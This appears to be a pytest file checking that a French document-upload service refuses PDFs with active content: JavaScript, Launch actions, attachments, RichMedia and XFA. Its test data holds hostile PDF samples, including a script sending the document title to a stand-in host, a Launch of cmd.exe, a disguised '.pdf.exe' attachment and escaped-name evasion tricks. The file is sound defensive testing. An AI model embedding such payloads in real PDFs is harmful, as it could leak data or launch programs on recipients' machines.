"""PDFs with active content (scripts, launch actions, attachments, rich media, XFA) are refused."""
import pytest
from pypdf.actions import JavaScript
from pypdf.generic import (
    ArrayObject, DictionaryObject, FloatObject, NameObject, StreamObject, TextStringObject,
)

from app.conventions.pdf import render_convention
from app.documents import files, pdfs
from app.documents.files import FileRefused
from tests import factories
from tests.documents import samples

LIMIT = 20 * 1024 * 1024
SCRIPT = "app.launchURL('https://exemple.invalid/?c=' + this.info.Title);"


def name(value: str) -> NameObject:
    return NameObject(value)


def javascript_action() -> DictionaryObject:
    return DictionaryObject({name("/S"): name("/JavaScript"), name("/JS"): TextStringObject(SCRIPT)})


def launch_action() -> DictionaryObject:
    return DictionaryObject({name("/S"): name("/Launch"),
                             name("/Win"): DictionaryObject({name("/F"): TextStringObject("cmd.exe")})})


def rect() -> ArrayObject:
    return ArrayObject([FloatObject(10), FloatObject(10), FloatObject(200), FloatObject(40)])


def annotation(writer, subtype: str, **entries) -> None:
    annot = DictionaryObject({name("/Type"): name("/Annot"), name("/Subtype"): name(subtype),
                              name("/Rect"): rect(), **{name(f"/{k}"): v for k, v in entries.items()}})
    writer.pages[0][name("/Annots")] = ArrayObject([annot])


def open_action(action):
    return lambda writer: writer.root_object.__setitem__(name("/OpenAction"), action())


def page_open_action(writer) -> None:
    writer.pages[0][name("/AA")] = DictionaryObject({name("/O"): javascript_action()})


def outline_with_script(writer) -> None:
    item = writer.add_outline_item(title="Sommaire", page_number=0).get_object()
    item[name("/A")] = javascript_action()


def xfa_form(writer) -> None:
    xfa = StreamObject()
    xfa.set_data(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
    writer.root_object[name("/AcroForm")] = DictionaryObject(
        {name("/Fields"): ArrayObject(), name("/XFA"): writer._add_object(xfa)})  # a stream is indirect


def rich_media(writer) -> None:
    annotation(writer, "/RichMedia", RichMediaContent=DictionaryObject())


JS = "Ce PDF contient du JavaScript\u00a0: ce contenu actif n'est pas accepté."
HOSTILE = {
    "document-javascript-names-tree": (lambda w: w.add_open_action(JavaScript(SCRIPT)), JS),
    "open-action-javascript": (open_action(javascript_action), JS),
    "open-action-launch": (open_action(launch_action),
                           "Ce PDF contient une action qui lance un programme ou importe des données"),
    "page-open-action": (page_open_action, JS),
    "link-with-javascript": (lambda w: annotation(w, "/Link", A=javascript_action()), JS),
    "outline-item-with-javascript": (outline_with_script, JS),
    "embedded-file": (lambda w: w.add_attachment("facture.pdf.exe", b"MZ\x90\x00"),
                      "Ce PDF contient des fichiers joints"),
    "rich-media": (rich_media, "Ce PDF contient du contenu multimédia (RichMedia)"),
    "xfa-form": (xfa_form, "Ce PDF contient un formulaire XFA"),
}


@pytest.mark.parametrize("build, message", HOSTILE.values(), ids=HOSTILE.keys())
def test_a_pdf_with_active_content_is_refused_and_the_problem_named(build, message):
    with pytest.raises(FileRefused) as refused:
        files.inspect(samples.pdf_with(build), "deliberation.pdf", LIMIT)
    assert str(refused.value).startswith(message)
    assert str(refused.value).endswith("(« Imprimer en PDF ») puis déposez-le à nouveau.")


@pytest.mark.parametrize("action, plain", [
    (b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>", b"/JavaScript"),  # /JavaScript and /JS
    (b"<< /Type /Action /S /#4Caunch /F (calc.exe) >>", b"/Launch"),
], ids=["escaped-javascript", "escaped-launch"])
def test_names_written_with_escapes_are_read_decoded(action, plain):
    data = samples.raw_pdf_opening_with(action)
    assert plain not in data  # what a byte search would look for
    with pytest.raises(FileRefused, match="^Ce PDF contient (du JavaScript|une action qui lance)"):
        files.inspect(data, "deliberation.pdf", LIMIT)


def test_an_action_chained_after_a_harmless_one_is_examined():
    data = samples.raw_pdf_opening_with(b"<< /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>",
                                        b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>")
    with pytest.raises(FileRefused, match="^Ce PDF contient du JavaScript"):
        files.inspect(data, "deliberation.pdf", LIMIT)


def test_an_object_no_page_refers_to_is_examined_too():
    data = samples.raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>",
    )
    with pytest.raises(FileRefused, match="^Ce PDF contient du JavaScript"):
        files.inspect(data, "deliberation.pdf", LIMIT)


def test_every_problem_found_is_named():
    def both(writer):
        writer.add_open_action(JavaScript(SCRIPT))
        writer.add_attachment("a.txt", b"bonjour")

    with pytest.raises(FileRefused, match="^Ce PDF contient du JavaScript et des fichiers joints\u00a0:"):
        files.inspect(samples.pdf_with(both), "deliberation.pdf", LIMIT)


@pytest.mark.parametrize("build", [
    lambda w: annotation(w, "/Link", A=DictionaryObject({name("/S"): name("/URI"),
                                                         name("/URI"): TextStringObject("https://anct.gouv.fr")})),
    lambda w: w.add_outline_item(title="Sommaire", page_number=0),
    lambda w: w.add_metadata({"/Title": "JavaScript et /Launch dans le titre"}),
], ids=["web-link", "outline", "words-in-metadata"])
def test_a_pdf_with_links_and_outlines_only_is_accepted(build):
    assert files.inspect(samples.pdf_with(build), "deliberation.pdf", LIMIT).content_type == files.PDF


def test_a_convention_rendered_by_jalons_is_accepted():
    """The conventions Jalons archives go through the same check: WeasyPrint writes no script."""
    dossier = factories.dossier([factories.commune(), factories.commune()])
    pdf = render_convention(dossier, "cadre")
    assert files.inspect(pdf, "convention.pdf", LIMIT).content_type == files.PDF


def test_too_many_objects_to_examine_is_a_refusal(monkeypatch):
    monkeypatch.setattr(pdfs, "MAX_CONTAINERS", 3)
    with pytest.raises(FileRefused, match="trop complexe pour être vérifié"):
        files.inspect(samples.pdf(), "deliberation.pdf", LIMIT)
